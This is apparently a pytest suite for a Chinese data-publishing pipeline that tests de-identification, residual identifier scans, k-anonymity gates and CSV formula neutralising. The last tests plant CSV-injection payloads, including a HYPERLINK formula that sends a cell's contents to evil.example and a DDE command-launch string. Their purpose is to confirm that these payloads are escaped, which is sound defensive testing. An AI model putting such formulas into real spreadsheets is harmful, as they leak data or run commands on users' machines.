"""The product stages without a scheduler: each gate of 不合规不挂牌 stops a version."""

import dataclasses

import pytest

from yishu.db.queries import get_batch
from yishu.definitions import ProductColumn
from yishu.pipeline import batches
from yishu.pipeline import products as stages
from yishu.resources import Resources
from yishu.samples import write_sample
from yishu.settings import Settings
from yishu.sources.collect import collect

PARTITION = "2026-10-01"


@pytest.fixture(scope="module")
def landed(tmp_path_factory):
    res = Resources.from_settings(Settings.for_home(tmp_path_factory.mktemp("stages")))
    for name, rows in (("market_enterprise", 400), ("health_visits", 800),
                       ("station_inspections", 300)):
        write_sample(res.storage, name, PARTITION, rows, seed=3, dirty=name != "health_visits")
        batch = batches.validate_and_land(res, _collect(res, name, PARTITION))
        assert batch.status == "landed", batch.reason
    return res


def _collect(res, source, partition):
    return collect(res.catalog.sources[source], partition, settings=res.settings,
                   storage=res.storage)


def _run(res, product):
    ref = stages.build(res, product, PARTITION)
    return stages.publish(res, stages.check_risk(res, stages.deidentify(res, ref)))


def test_clean_product_publishes(landed):
    ref = _run(landed, "insurance_visits")
    assert ref.blocked is None and ref.version >= 1 and ref.k_achieved >= 5


def test_drift_in_a_public_column_stops_the_product(landed):
    from yishu.db.queries import product_run, published_versions

    ref = _run(landed, "station_inspection_log")
    assert ref.blocked.startswith("drift") and "remark" in ref.blocked
    assert "CN_PHONE" in ref.blocked
    # stopped, not crashed: the reason is kept and no version exists, not even a folder
    run = product_run(landed.db, "station_inspection_log", PARTITION)
    assert run.status == "blocked" and run.reason == ref.blocked
    assert ref.version is None and ref.final is None
    assert not [v for v in published_versions(landed.db)
                if v.product == "station_inspection_log"]
    assert not list((landed.settings.home / "products").glob("*/station_inspection_log/*"))


STRONG = {  # one valid value of every strong identifier the residual scan must catch
    "CN_RESIDENT_ID": "440305199003071236",
    "CN_PHONE": "13812345678",
    "CN_BANK_CARD": "6222021234567890128",
    "CN_PASSPORT": "护照号E12345678",
    "CN_USCC": "92440300MA5EKJ3R7",  # an individual business: identifies a person
}


@pytest.mark.parametrize("entity", sorted(STRONG))
def test_residual_scan_catches_every_strong_identifier(landed, entity):
    """A strong identifier left in any published column (here the department) stops it."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from yishu.deid.recognizers import STRONG_IDENTIFIERS
    from yishu.standard import identifiers
    from yishu.standard.identifiers import luhn_is_valid

    assert set(STRONG) == set(STRONG_IDENTIFIERS)
    value = STRONG[entity]
    if entity == "CN_USCC":
        value += identifiers.uscc_check_char(value)
    assert entity != "CN_BANK_CARD" or luhn_is_valid(value)
    assert entity != "CN_RESIDENT_ID" or identifiers.is_resident_id(value)
    ref = stages.deidentify(landed, stages.build(landed, "insurance_visits", PARTITION))
    table = pq.read_table(ref.deidentified)
    department = table.column("department").to_pylist()
    department[::40] = [value] * len(department[::40])
    table = table.set_column(table.column_names.index("department"), "department",
                             pa.array(department))
    pq.write_table(table, ref.deidentified)
    checked = stages.check_risk(landed, ref)
    assert checked.blocked and checked.blocked.startswith("residual scan"), checked.blocked
    assert f"department: {{'{entity}'" in checked.blocked


def test_residual_identifier_stops_the_product(landed):
    cat = landed.catalog
    product = cat.products["insurance_visits"]
    leaky = dataclasses.replace(product, columns={
        **product.columns, "raw_id": ProductColumn("raw_id", "patient_resident_id", "keep")})
    cat = dataclasses.replace(cat, products={**cat.products, "insurance_visits": leaky})
    ref = _run(landed.with_catalog(cat), "insurance_visits")
    assert ref.blocked.startswith("residual scan") and "raw_id" in ref.blocked


def _with_column(res, product_name, column):
    cat = res.catalog
    product = cat.products[product_name]
    changed = dataclasses.replace(product, columns={**product.columns, column.name: column})
    return res.with_catalog(dataclasses.replace(cat, products={**cat.products,
                                                               product_name: changed}))


def test_residual_scan_reads_names_in_every_personal_column(landed):
    """Names of legal representatives kept as they are (the check is bypassed here) stop the
    product: the residual scan reads every column whose element has a pii_entity."""
    raw = _with_column(landed, "enterprise_profile",
                       ProductColumn("legal_rep", "legal_rep_name", "keep"))
    ref = _run(raw, "enterprise_profile")
    assert ref.blocked and ref.blocked.startswith("residual scan"), ref.blocked
    assert "legal_rep: {'PERSON'" in ref.blocked and ref.version is None


def test_a_name_kept_with_a_reason_is_declared_not_residual(landed):
    import json

    kept = _with_column(landed, "enterprise_profile", ProductColumn(
        "legal_rep", "legal_rep_name", "keep", keep_reason="公示系统已公开法定代表人"))
    ref = _run(kept, "enterprise_profile")
    assert ref.blocked is None and ref.version >= 1
    report = json.loads((_version_folder(kept, "enterprise_profile", ref.version) /
                         "deid_report.json").read_text(encoding="utf-8"))
    assert report["kept_with_reason"]["legal_rep"]["entities"]["PERSON"] > 0
    assert "legal_rep" not in report["residual"]


def _with_zone(res, name, **changes):
    cat = res.catalog
    zone = dataclasses.replace(cat.zones[name], **changes)
    return res.with_catalog(dataclasses.replace(cat, zones={**cat.zones, name: zone}))


def test_zone_minimum_grade_and_maximum_level_are_enforced(landed):
    ref = _run(_with_zone(landed, "finance", min_quality_grade="A"), "enterprise_profile")
    assert "below the zone's minimum A" in ref.blocked
    public = _with_zone(landed, "insurance", max_level="L1")
    assert "exceeds zone 'insurance' maximum L1" in _run(public, "insurance_visits").blocked


def test_the_zone_sets_l_and_k_counts_patients(landed):
    import json

    ref = _run(_with_zone(landed, "insurance", l=50), "insurance_visits")
    assert ref.blocked and "l-diversity" in ref.blocked and "< 50" in ref.blocked
    report = json.loads(__import__("pathlib").Path(ref.report).read_text(encoding="utf-8"))
    assert report["risk"]["counted"] == "patient_token" and report["risk"]["l_required"] == 50


def test_too_much_suppression_fails_the_risk_gate(landed):
    tight = _with_zone(landed, "insurance", k=50, max_suppression=0.01)
    assert "re-identification risk" in _run(tight, "insurance_visits").blocked


def test_aggregate_product_suppresses_small_cells(landed):
    ref = _run(landed, "enterprise_statistics")
    assert ref.blocked is None and ref.level == "L1"
    import pyarrow.parquet as pq

    table = pq.read_table(_version_folder(landed, "enterprise_statistics", ref.version) /
                          "data.parquet")
    assert min(table.column("enterprises").to_pylist()) >= 5


def _version_folder(res, product, version):
    from pathlib import Path

    from yishu.db.queries import published_versions

    return Path(next(v.path for v in published_versions(res.db)
                     if v.product == product and v.version == version))


def test_unreadable_or_empty_batches_are_quarantined_and_rejection_is_final(landed, tmp_path):
    from yishu.pipeline.batches import review

    source = landed.catalog.sources["station_inspections"]
    for partition, content in (("2026-10-02", b"\xff\xfe\x00bad"),
                               ("2026-10-03", b"inspection_id,station_id,inspection_date,"
                                              b"result,remark\n")):
        path = source.resolve_location(partition, home=landed.settings.home,
                                       repo=landed.settings.repo)
        path.write_bytes(content)
        batch = batches.validate_and_land(landed, _collect(landed, source.name, partition))
        assert batch.status == "quarantined"
    assert batch.quality_grade is not None and "no rows" in batch.reason
    unreadable = get_batch(landed.db, "station_inspections", "2026-10-02")
    assert unreadable.quality_score == 0 and unreadable.quality_grade == "E"
    with pytest.raises(ValueError, match="cannot be released"):
        review(landed, "station_inspections", "2026-10-02", "released", "try")
    review(landed, "station_inspections", "2026-10-02", "rejected", "garbage")
    with pytest.raises(ValueError, match="rejected for good"):
        review(landed, "station_inspections", "2026-10-02", "released", "try again")


def test_a_stricter_policy_publishes_a_new_version(landed):
    first = _run(landed, "enterprise_statistics")
    assert _run(landed, "enterprise_statistics").unchanged
    cat = landed.catalog
    product = cat.products["enterprise_statistics"]
    stricter = dataclasses.replace(product, aggregate={**product.aggregate, "min_cell": 8})
    cat = dataclasses.replace(cat, products={**cat.products, "enterprise_statistics": stricter})
    second = _run(landed.with_catalog(cat), "enterprise_statistics")
    assert not second.unchanged and second.version == first.version + 1


def test_published_report_does_not_reveal_suppressed_rows(landed):
    import json
    from pathlib import Path

    ref = _run(landed, "insurance_visits")
    folder = Path(ref.path) if ref.path else None
    if folder is None:  # already published by an earlier test: same inputs
        from yishu.db.queries import published_versions

        folder = Path([v for v in published_versions(landed.db)
                       if v.product == "insurance_visits"][-1].path)
    published = json.loads((folder / "deid_report.json").read_text(encoding="utf-8"))
    assert published["risk"]["rows_suppressed"] > 0
    assert all(set(c) == {"rows"} for c in published["risk"]["smallest_classes"])
    work = json.loads(Path(ref.report).read_text(encoding="utf-8"))
    assert "age_band" in work["risk"]["smallest_classes"][0]  # the steward still sees them


def test_published_csv_neutralizes_formulas_and_parquet_stays_exact(landed):
    """A cell such as =HYPERLINK(…) from the source is text in data.csv (OWASP CSV
    injection), and the exact value in data.parquet."""
    import pyarrow.csv as pv
    import pyarrow.parquet as pq

    partition = "2026-10-02"
    path = write_sample(landed.storage, "market_enterprise", partition, 400, seed=5, dirty=False)
    table = pv.read_csv(path, convert_options=pv.ConvertOptions(
        column_types={n: "string" for n in pv.read_csv(path).column_names}))
    names = table.column("enterprise_name").to_pylist()
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)"]
    names[:4] = formulas
    table = table.set_column(table.column_names.index("enterprise_name"), "enterprise_name",
                             __import__("pyarrow").array(names))
    pv.write_csv(table, path)
    assert batches.validate_and_land(landed, _collect(landed, "market_enterprise",
                                                      partition)).status == "landed"
    ref = stages.build(landed, "enterprise_profile", partition)
    ref = stages.publish(landed, stages.check_risk(landed, stages.deidentify(landed, ref)))
    assert ref.blocked is None, ref.blocked
    folder = _version_folder(landed, "enterprise_profile", ref.version)
    exact = set(pq.read_table(folder / "data.parquet").column("enterprise_name").to_pylist())
    published = pv.read_csv(folder / "data.csv", convert_options=pv.ConvertOptions(
        column_types={"enterprise_name": "string"})).column("enterprise_name").to_pylist()
    kept = [f for f in formulas if f in exact]  # the rows k-anonymity or exclusions kept
    assert kept, "no planted formula reached the product"
    for formula in kept:
        assert "'" + formula in published and formula not in published
    assert not any(v and v[0] in "=+-@" for v in published)


def test_formula_cells_are_neutralized_in_every_text_type():
    import pyarrow as pa

    from yishu.pipeline.spreadsheet import neutralize

    table = pa.table({"a": pa.array(["=1+1", "a=b", None, "\tx"], pa.large_string()),
                      "b": pa.chunked_array([["-cmd", "@x"], ["ok", "+1"]]),
                      "n": pa.array([-1, 2, 3, 4])})
    assert neutralize(table).to_pydict() == {"a": ["'=1+1", "a=b", None, "'\tx"],
                                             "b": ["'-cmd", "'@x", "ok", "'+1"],
                                             "n": [-1, 2, 3, 4]}
